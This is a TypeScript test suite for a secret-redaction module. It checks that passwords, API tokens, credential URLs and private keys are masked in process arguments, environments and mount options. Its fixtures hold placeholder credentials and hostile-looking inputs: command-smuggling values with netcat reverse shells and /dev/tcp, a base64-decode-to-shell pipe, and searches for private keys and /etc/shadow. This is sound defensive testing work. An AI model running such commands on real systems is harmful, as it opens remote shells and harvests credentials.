// Which values of command lines, environments and mount options are replaced, and which stay.
import assert from 'node:assert/strict'
import { createHmac } from 'node:crypto'
import fc from 'fast-check'
import { compileExpression, Redactor } from '../../../../collector/redaction/redactor.js'
import { SECRET_PATTERNS } from '../../../../collector/redaction/secret-patterns.js'

const redactor = new Redactor()
const blob = (args: readonly string[]): Buffer => Buffer.from(args.map((argument) => `${argument}\0`).join(''))
const clean = (bytes: Buffer, by = redactor): string => Buffer.from(by.arguments(bytes, 0, bytes.length).bytes).toString('latin1')
/** Arguments after redaction. */
const of = (args: readonly string[], by = redactor): string[] => clean(blob(args), by).split('\0').slice(0, -1)

const R = '[redacted]'
const HEX40 = '0123456789abcdef0123456789abcdef01234567'
const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U'
const PEM_BODY = `\n${'MIIEowIBAAKCAQEA7'.repeat(4)}\n${'b2FzZGZhc2Rm'.repeat(5)}\nabc=\n`
const ghp = `ghp_${'aB3'.repeat(12)}`

const REPLACED: readonly [pattern: string, args: readonly string[], expected: readonly string[]][] = [
  ['option', ['app', '--password', 'hunter2'], ['app', '--password', R]],
  ['option', ['app', '--password=hun ter;2'], ['app', `--password=${R}`]],
  ['option', ['app', '--db-password', 'a&b$c', '--token=x', '-v'], ['app', '--db-password', R, `--token=${R}`, '-v']],
  [
    'option',
    ['app', '--secret=s', '--api-key=k', '--client-secret', 'z'],
    ['app', `--secret=${R}`, `--api-key=${R}`, '--client-secret', R],
  ],
  ['option', ['gpg', '--passphrase', 'two words'], ['gpg', '--passphrase', R]],
  ['assignment', ['env', 'PGPASSWORD=a;b', 'psql'], ['env', `PGPASSWORD=${R}`, 'psql']],
  ['assignment', ['env', `AWS_SECRET_ACCESS_KEY=${HEX40}`, 'aws'], ['env', `AWS_SECRET_ACCESS_KEY=${R}`, 'aws']],
  ['assignment', ['docker', 'run', '-e', 'DB_PASS=x', 'web'], ['docker', 'run', '-e', `DB_PASS=${R}`, 'web']],
  ['name', ['sh', '-c', 'PGPASSWORD=abc psql -h db'], ['sh', '-c', `PGPASSWORD=${R} psql -h db`]],
  ['name', ['sh', '-c', 'app --password "s3cret!" --user x'], ['sh', '-c', `app --password "${R}" --user x`]],
  ['name', ['curl', '-d', '{"user":"a","password":"p,q"}'], ['curl', '-d', `{"user":"a","password":"${R}"}`]],
  ['name', ['curl', '-H', 'X-Api-Key: abcdef'], ['curl', '-H', `X-Api-Key: ${R}`]],
  ['name', ['curl', 'http://h/?access_token=abc&x=1'], ['curl', `http://h/?access_token=${R}&x=1`]],
  ['query', ['azcopy', 'https://b/c?sv=1&sig=abc%3D'], ['azcopy', `https://b/c?sv=1&sig=${R}`]],
  ['authorization', ['curl', '-H', 'Authorization: Bearer abc.def'], ['curl', '-H', `Authorization: Bearer ${R}`]],
  ['authorization', ['curl', '-H', 'authorization:Basic dXNlcjpwYXNz'], ['curl', '-H', `authorization:Basic ${R}`]],
  ['url', ['git', 'clone', 'https://me:pw@host/x'], ['git', 'clone', `https://me:${R}@host/x`]],
  ['url', ['psql', 'postgres://:pw@db:5432/x'], ['psql', `postgres://:${R}@db:5432/x`]],
  ['curl', ['curl', '-s', '-u', 'me:p w', 'http://h'], ['curl', '-s', '-u', `me:${R}`, 'http://h']],
  ['curl', ['/usr/bin/curl', '-sume:pw', 'http://h'], ['/usr/bin/curl', `-sume:${R}`, 'http://h']],
  ['curl', ['sh', '-c', 'curl --user me:pw http://h'], ['sh', '-c', `curl --user me:${R} http://h`]],
  ['sshpass', ['sshpass', '-p', 'x y', 'ssh', 'h'], ['sshpass', '-p', R, 'ssh', 'h']],
  ['sshpass', ['sshpass', '-v', '-pxyz', 'ssh', '-p', '22', 'h'], ['sshpass', '-v', `-p${R}`, 'ssh', '-p', '22', 'h']],
  ['mysql', ['mysql', '-u', 'root', '-psecret', 'db'], ['mysql', '-u', 'root', `-p${R}`, 'db']],
  ['mysql', ['sh', '-c', 'mysqldump -uroot -psecret db > x'], ['sh', '-c', `mysqldump -uroot -p${R} db > x`]],
  ['login', ['docker', 'login', '-u', 'me', '-p', 'pw', 'reg'], ['docker', 'login', '-u', 'me', '-p', R, 'reg']],
  ['mongo', ['mongosh', '-u', 'me', '-p', 'pw', 'db'], ['mongosh', '-u', 'me', '-p', R, 'db']],
  ['redis', ['redis-cli', '-h', 'r', '-a', 'pw', 'ping'], ['redis-cli', '-h', 'r', '-a', R, 'ping']],
  ['ldap', ['ldapsearch', '-x', '-w', 'pw', '-b', 'dc=x'], ['ldapsearch', '-x', '-w', R, '-b', 'dc=x']],
  ['smb', ['smbclient', '//h/s', '-U', 'me%pw'], ['smbclient', '//h/s', '-U', `me%${R}`]],
  ['archive', ['zip', '-P', 'pw', 'a.zip', 'a'], ['zip', '-P', R, 'a.zip', 'a']],
  ['7z', ['7z', 'a', '-ppw', 'x.7z'], ['7z', 'a', `-p${R}`, 'x.7z']],
  ['ipmitool', ['ipmitool', '-P', 'pw', 'power'], ['ipmitool', '-P', R, 'power']],
  ['sqlcmd', ['sqlcmd', '-S', 'h', '-P', 'pw'], ['sqlcmd', '-S', 'h', '-P', R]],
  ['useradd', ['useradd', '-p', 'hash', 'x'], ['useradd', '-p', R, 'x']],
  ['openssl', ['openssl', 'enc', '-pass', 'pass:pw'], ['openssl', 'enc', '-pass', `pass:${R}`]],
  ['stdin', ['sh', '-c', "echo 'me:pw' | sudo chpasswd"], ['sh', '-c', `echo '${R}' | sudo chpasswd`]],
  ['stdin', ['sh', '-c', 'echo pw | passwd --stdin me'], ['sh', '-c', `echo ${R} | passwd --stdin me`]],
  ['aws', ['aws', 'AKIAIOSFODNN7EXAMPLE'], ['aws', R]],
  ['github', ['git', `x${'='}${ghp}`, `github_pat_${'a1_'.repeat(20)}`], ['git', `x=${R}`, R]],
  ['gitlab', ['x', 'glpat-abcdefghij0123456789'], ['x', R]],
  ['slack', ['x', 'xoxb-123456789012-abcdefABCDEF'], ['x', R]],
  ['slack', ['curl', 'https://hooks.slack.com/services/T0/B0/abc'], ['curl', `https://hooks.slack.com/services/${R}`]],
  ['stripe', ['x', `sk_${'live'}_abcdefghij0123456789`], ['x', R]],
  ['google', ['x', `AIza${'Sy0'.repeat(12)}`], ['x', R]],
  ['jwt', ['x', JWT], ['x', R]],
  ['service', ['x', `npm_${'a'.repeat(36)}`, `hvs.${'C'.repeat(24)}`], ['x', R, R]],
  [
    'private-key',
    ['sh', '-c', `cat <<E\n-----BEGIN RSA PRIVATE KEY-----${PEM_BODY}-----END RSA PRIVATE KEY-----\nE`],
    ['sh', '-c', `cat <<E\n-----BEGIN RSA PRIVATE KEY-----${R}\n-----END RSA PRIVATE KEY-----\nE`],
  ],
]

/** Nothing in these is replaced. */
const KEPT: readonly (readonly string[])[] = [
  ['ls', '-la', '/etc/passwd', '/etc/shadow'],
  ['grep', '-ri', 'password', '/home'],
  ['grep', 'BEGIN RSA PRIVATE KEY', '-r', '/'],
  ['grep', '-l', '-----BEGIN OPENSSH PRIVATE KEY-----', '-r', '/home'],
  ['find', '/', '-name', 'id_rsa', '-o', '-name', '.aws/credentials'],
  ['app', '--password-file=/run/secrets/db', '--token-file', '/x'],
  ['app', '--password', '-v'],
  ['app', '--password=/etc/shadow', '--secret', './s'],
  ['app', '--password=$DB', '--token=${TOKEN}', '--password=***', '--password'],
  ['ssh', '-o', 'PasswordAuthentication=no', '-p', '22', 'h'],
  ['sshpass', '-e', 'ssh', '-p', '22', 'h'],
  ['mysql', '-u', 'root', '-p', '-P', '3306'],
  ['kubectl', 'get', 'secret', 'x', '-o', 'json'],
  ['docker', 'run', '-p', '80:80', 'web:1'],
  ['curl', 'http://h:8080/a@b', '-u', 'me'],
  ['sort', '--key=2', '-k', '1'],
  ['bash', '-c', 'passwd root; [ x == y ]'],
  ['git', 'commit', '-m', 'tokenizer: second pass'],
  ['vault/secret:latest', 'bypass=1', 'compass=2'],
  ['PWD=/tmp/x', 'OLDPWD=/root'],
  ['eyJ', 'AKIA', 'ghp_', 'xox', 'sk-', 'AIza', '-----BEGIN PRIVATE KEY-----'],
  ['bash', '-c', 'echo x | base64 -d | sh'],
]

describe('redaction of arguments', () => {
  for (const [pattern, args, expected] of REPLACED) {
    it(`replaces ${JSON.stringify(args).slice(0, 90)} by ${pattern}`, () => {
      const own = new Redactor()
      assert.deepEqual(of(args, own), expected)
      assert.ok((own.matched.get(pattern) ?? 0) > 0, [...own.matched.keys()].join())
      assert.deepEqual(of(expected), expected, 'once more')
    })
  }

  it('has a case for every pattern', () => {
    assert.deepEqual([...new Set(REPLACED.map(([pattern]) => pattern))].sort(), SECRET_PATTERNS.map(({ name }) => name).sort())
  })

  for (const args of KEPT) {
    it(`keeps ${JSON.stringify(args)}`, () => {
      assert.deepEqual(of(args), args)
    })
  }

  it('does not hide a command in what looks like a value', () => {
    for (const text of [
      '--password=$(nc 1.2.3.4 9)',
      'password=`id`',
      'token=x;nc -e sh h 1',
      'secret=a|sh',
      '--password=x /dev/tcp/1/2',
    ]) {
      const [, , left = ''] = of(['bash', '-c', text])
      for (const command of ['$(nc 1.2.3.4 9)', '`id`', ';nc -e sh h 1', '|sh', '/dev/tcp/1/2']) {
        if (text.includes(command)) assert.ok(left.includes(command), `${text}: ${left}`)
      }
    }
  })

  it('finds a secret that the bound of the arguments split', () => {
    for (const [text, expected] of [
      ['app\0--password=hun', `app\0--password=${R}`],
      ['app\0--password\0hun', `app\0--password\0${R}`],
      ['x\0ghp_aB3', `x\0${R}`],
      ['x\0AKIAIO', `x\0${R}`],
      [`x\0${JWT.slice(0, 30)}`, `x\0${R}`],
      ['x\0eyJhb', `x\0${R}`],
      ['x\0https://me:pw', `x\0https://me:${R}`],
      [`x\0-----BEGIN PRIVATE KEY-----\nMIIE`, `x\0-----BEGIN PRIVATE KEY-----${R}`],
    ] as const) {
      assert.equal(clean(Buffer.from(text)), expected)
    }
  })

  it('replaces bytes that are not valid UTF-8 with the rest of the secret', () => {
    const bytes = Buffer.from('app\0--password=a\xff\xfeb\xc3\0--x\xff\0', 'latin1')
    assert.equal(clean(bytes), `app\0--password=${R}\0--x\xff\0`)
  })

  it('returns the given bytes when nothing matches', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
        const { bytes: after, count } = redactor.arguments(bytes, 0, bytes.length)
        assert.ok(count > 0 || after === bytes)
      }),
    )
    const letters = fc
      .array(fc.constantFrom('ls', '-l', '--', '/etc', 'a.b', '😀', '\x00', 'x=1', ' '), { maxLength: 60 })
      .map((parts) => parts.join(''))
    fc.assert(fc.property(letters, (text) => clean(Buffer.from(text)) === Buffer.from(text).toString('latin1')))
  })

  it('leaves everything around a secret as it was', () => {
    const around = fc.uint8Array({ maxLength: 50 }).map((bytes) => Buffer.from(bytes.map((byte) => (byte === 0x3d ? 1 : byte | 0x80))))
    fc.assert(
      fc.property(around, around, fc.stringMatching(/^[a-zA-Z0-9]{4,30}x$/), (before, after, secret) => {
        const bytes = Buffer.concat([before, Buffer.from(`\0--password=${secret}\0`), after, Buffer.from([0])])
        const expected = Buffer.concat([before, Buffer.from(`\0--password=${R}\0`), after, Buffer.from([0])])
        assert.deepEqual(Buffer.from(redactor.arguments(bytes, 0, bytes.length).bytes), expected)
      }),
    )
  })

  it('reads only its part of the bytes', () => {
    const bytes = Buffer.from('--token=abc\0x\0--token=def\0')
    const { bytes: after, count } = redactor.arguments(bytes, 12, 14)
    assert.deepEqual([after, count], [bytes, 0])
    const part = redactor.arguments(bytes, 14, bytes.length)
    assert.deepEqual([Buffer.from(part.bytes).toString(), part.count], [`--token=${R}\0`, 1])
  })
})

describe('hostile arguments', () => {
  it('of 64 KiB with thousands of candidates are replaced one by one', () => {
    const bytes = Buffer.from(`sh\0-c\0${'pwd=ab '.repeat(9362)}`).subarray(0, 64 * 1024)
    const { bytes: after, count } = redactor.arguments(bytes, 0, bytes.length)
    assert.equal(count, 9361)
    assert.equal(Buffer.from(after).toString().replaceAll(`pwd=${R} `, ''), 'sh\0-c\0pwd')
  })

  it('of one kind of beginning end in time', () => {
    const [small, large] = [2048, 64 * 1024]
    for (const part of [
      'mysql ',
      'curl -u ',
      'sshpass -',
      '--password ',
      'eyJ',
      'http://a:',
      '-----BEGIN PRIVATE KEY-----',
      'docker login ',
      'echo a|',
      'token',
      '\0--pass',
    ]) {
      for (const size of [small, large]) {
        const bytes = Buffer.from(part.repeat(size / part.length))
        redactor.arguments(bytes, 0, bytes.length)
      }
    }
  })

  it('with more than 256 matches of a setting lose the arguments that match, and only those', () => {
    const own = new Redactor({ expressions: [compileExpression('x(\\d)(?:.*y)?')] })
    const bytes = Buffer.from(`${'x1 '.repeat(300)}\0keep\0x2\0`)
    const text = Buffer.from(own.arguments(bytes, 0, bytes.length).bytes).toString()
    assert.equal(text, `${Array(256).fill(`x${R}`).join(' ')}${R}\0keep\0${R}\0`)
    assert.equal(own.counters.coarse, 1)
  })
})

describe('markers', () => {
  it('have the hash of the secret when there is a key', () => {
    const key = Buffer.from('0123456789abcdef')
    const own = new Redactor({ key })
    const hash = createHmac('sha256', key).update('hunter2').digest('hex').slice(0, 16)
    assert.deepEqual(of(['a', '--password', 'hunter2', '--token=hunter2'], own), [
      'a',
      '--password',
      `[redacted:${hash}]`,
      `--token=[redacted:${hash}]`,
    ])
    assert.deepEqual(of(['a', '--password', `[redacted:${hash}]`], own), ['a', '--password', `[redacted:${hash}]`])
  })

  it('are counted', () => {
    const own = new Redactor()
    of(['a', '--password', 'x1', '--token=x2'], own)
    assert.deepEqual(own.report(), {
      'redaction.values': 2,
      'redaction.coarse': 0,
      'redaction.matched.option': 1,
      'redaction.matched.assignment': 1,
      'redaction.matched.name': 1,
    })
  })
})

describe('redaction of other texts', () => {
  it('replaces the value of a variable with the name of a secret', () => {
    const bytes = blob(['PATH=/bin', 'MY_KEY_1=abc', 'SSH_AUTH_SOCK=/tmp/s', 'DB_URL=pg://a:b@h', 'TOKEN=***', 'HTTP_AUTHORITY=a b'])
    const { bytes: after, count } = redactor.environment(bytes)
    const expected = ['PATH=/bin', `MY_KEY_1=${R}`, 'SSH_AUTH_SOCK=/tmp/s', `DB_URL=pg://a:${R}@h`, 'TOKEN=***', `HTTP_AUTHORITY=${R}`]
    assert.deepEqual([Buffer.from(after), count], [blob(expected), 3])
  })

  it('replaces passwords in options of mounts', () => {
    const mount = (text: string, key = '', isCut = false): string => {
      const bytes = Buffer.from(`--${text}--`)
      const { bytes: after, count } = redactor.mountText(bytes, { start: 2, end: bytes.length - 2, isCut, key })
      return count === 0 ? text : Buffer.from(after).toString()
    }
    assert.equal(mount('user=a,password=x y,,z,vers=3'), `user=a,password=${R},vers=3`)
    assert.equal(mount('rw,pass=x'), `rw,pass=${R}`)
    assert.equal(mount('hunter2', 'password'), R)
    assert.equal(mount('https://me:pw@dav/x'), `https://me:${R}@dav/x`)
    assert.equal(mount('http://dav:8080'), 'http://dav:8080')
    for (const kept of ['rw,relatime,lowerdir=/a:/b,upperdir=/c', 'mode=755,size=64k', '/dev/sda1']) assert.equal(mount(kept), kept)
  })
})

describe('expressions of settings', () => {
  it('replace their groups, or the whole match', () => {
    const own = new Redactor({
      expressions: [compileExpression('acme-([a-z]+)'), compileExpression('X\\d+'), compileExpression('--my\\x00([^\\x00]+)')],
    })
    assert.deepEqual(of(['a', 'acme-foo', 'b X12', '--my', 'v'], own), ['a', `acme-${R}`, `b ${R}`, '--my', R])
    assert.equal(own.matched.get('expression1'), 1)
  })

  for (const [pattern, message] of [
    ['(', /missing \)/],
    ['(?=x)', /invalid/],
    ['x*', /matches the empty text/],
    ['(a)(b)(c)(d)(e)(f)(g)(h)', /8 groups/],
    [`${'a{1000}'.repeat(2)}`, /./],
  ] as const) {
    it(`are refused when they are ${pattern.slice(0, 30)}`, () => {
      if (pattern.includes('{1000}')) assert.doesNotThrow(() => compileExpression(pattern))
      else assert.throws(() => compileExpression(pattern), message)
    })
  }
})
